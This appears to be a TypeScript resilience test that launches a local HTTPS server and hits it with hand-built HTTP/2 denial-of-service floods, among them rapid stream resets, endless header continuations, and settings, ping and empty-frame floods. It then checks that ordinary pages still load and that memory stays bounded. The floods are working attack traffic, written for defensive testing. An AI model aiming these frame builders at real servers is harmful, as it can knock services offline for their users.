import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { type ClientHttp2Session, connect } from 'node:http2'
import { request } from 'node:https'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as wait } from 'node:timers/promises'
import { connect as connectTls, type TLSSocket } from 'node:tls'
import { createCertificate } from '#server/documents/sign/createCertificate.ts'
import { type Attack, must } from './lib/attack.ts'
import { memoryOf, type Running, startPortal } from './lib/place.ts'

const UNKNOWN = { rejectUnauthorized: false } as const
const CONNECTIONS = 10
/** Streams that one attacker opens and takes back on each connection. */
const RESETS = 1_000
/** Frames of one kind on each connection. */
const FRAMES = 5_000
/** An innocent page may wait so long while it rains. */
const PATIENCE_MS = 5_000
const MOST_GROWTH = 400 * 1024 * 1024

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')

/** A frame as RFC 9113 lays it out: length, kind, flags, stream, payload. */
function frame(kind: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head.writeUInt8(kind, 3)
  head.writeUInt8(flags, 4)
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const NONE = Buffer.alloc(0)
/** :method GET, :scheme https, :path / by their numbers in the table that every side knows. */
const GET_ROOT = Buffer.from([0x82, 0x87, 0x84])
const many = (one: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: FRAMES }, (_, index) => one(index)))

/** Floods that are known of servers of HTTP/2, each as the bytes of one connection. */
const FLOODS: Readonly<Record<string, () => Buffer>> = {
  'streams opened and reset': () =>
    many(index => {
      const stream = index * 2 + 1
      return Buffer.concat([frame(1, 5, stream, GET_ROOT), frame(3, 0, stream, Buffer.from([0, 0, 0, 8]))])
    }),
  'a head that never ends': () =>
    Buffer.concat([
      frame(1, 1, 1, GET_ROOT),
      many(() => frame(9, 0, 1, Buffer.from([0x00, 0x01, 0x61, 0x01, 0x61]))),
    ]),
  settings: () => many(() => frame(4, 0, 0, NONE)),
  pings: () => many(() => frame(6, 0, 0, Buffer.alloc(8))),
  'empty data': () =>
    Buffer.concat([frame(1, 4, 1, Buffer.from([0x83, 0x87, 0x84])), many(() => frame(0, 0, 1, NONE))]),
  'windows of nothing': () => many(() => frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))),
}

const place = (origin: string) => ({ host: new URL(origin).hostname, port: Number(new URL(origin).port) })

/** Sends bytes over one connection of HTTP/2, and leaves it open until the portal or the attack ends it. */
function pour(origin: string, bytes: Buffer): TLSSocket {
  const socket = connectTls({ ...place(origin), ...UNKNOWN, ALPNProtocols: ['h2'] }, () => {
    socket.write(Buffer.concat([PREFACE, frame(4, 0, 0, NONE), bytes]))
  })
  socket.on('error', () => undefined)
  socket.resume()
  return socket
}

/** Milliseconds until an innocent page is there; undefined when it is not within the attack's patience. */
function innocent(origin: string): Promise<number | undefined> {
  const began = performance.now()
  return new Promise(resolve => {
    const asking = request(
      { ...place(origin), path: '/', ...UNKNOWN, timeout: PATIENCE_MS, agent: false },
      reply => {
        reply.resume()
        reply.on('end', () => resolve(reply.statusCode === 200 ? performance.now() - began : undefined))
      },
    )
    asking.on('timeout', () => asking.destroy())
    asking.on('error', () => resolve(undefined))
    asking.end()
  })
}

/** The portal with TLS of its own. */
async function openSecurePortal(): Promise<Running & { readonly tls: string }> {
  const folder = mkdtempSync(join(tmpdir(), 'portal-tls-'))
  const { certificatePem, keyPem } = await createCertificate('Attack', new Date())
  writeFileSync(join(folder, 'tls.crt'), certificatePem)
  writeFileSync(join(folder, 'tls.key'), keyPem, { mode: 0o600 })
  const running = await startPortal({
    TLS_CERT: join(folder, 'tls.crt'),
    TLS_KEY: join(folder, 'tls.key'),
    LOG_LEVEL: 'warn',
  })
  const close = async () => {
    await running.close()
    rmSync(folder, { recursive: true, force: true })
  }
  return { ...running, tls: running.origin.replace('http:', 'https:'), close }
}

/** Opens and takes back requests as a program does that speaks HTTP/2 by its library. */
async function resetMany(origin: string): Promise<void> {
  const session: ClientHttp2Session = connect(origin, UNKNOWN)
  session.on('error', () => undefined)
  for (let index = 0; index < RESETS && !session.destroyed && !session.closed; index++) {
    const stream = session.request({ ':path': '/' })
    stream.on('error', () => undefined)
    stream.close(8)
    if (index % 200 === 0) await wait(1)
  }
  session.destroy()
}

export const attacks: readonly Attack[] = [
  {
    name: 'flood HTTP/2 with resets, heads without end, settings, pings and empty frames',
    async run() {
      const portal = await openSecurePortal()
      try {
        const idle = await innocent(portal.tls)
        must(idle !== undefined, 'the portal does not answer over TLS')
        const before = memoryOf(portal.pid)
        for (const [what, bytes] of Object.entries(FLOODS)) {
          const rain = bytes()
          const sockets = Array.from({ length: CONNECTIONS }, () => pour(portal.tls, rain))
          const waited = await innocent(portal.tls)
          for (const socket of sockets) socket.destroy()
          if (waited === undefined) return `an innocent page does not come beside ${what}`
        }
        await Promise.all(Array.from({ length: CONNECTIONS }, () => resetMany(portal.tls)))
        if ((await innocent(portal.tls)) === undefined) return 'an innocent page does not come after resets'
        const grown = memoryOf(portal.pid) - before
        if (grown > MOST_GROWTH) return `it grew by ${Math.round(grown / 1024 / 1024)} MB`
        return portal.said.out.includes('"level":50') ? 'the log has a fault' : undefined
      } finally {
        await portal.close()
      }
    },
  },
]
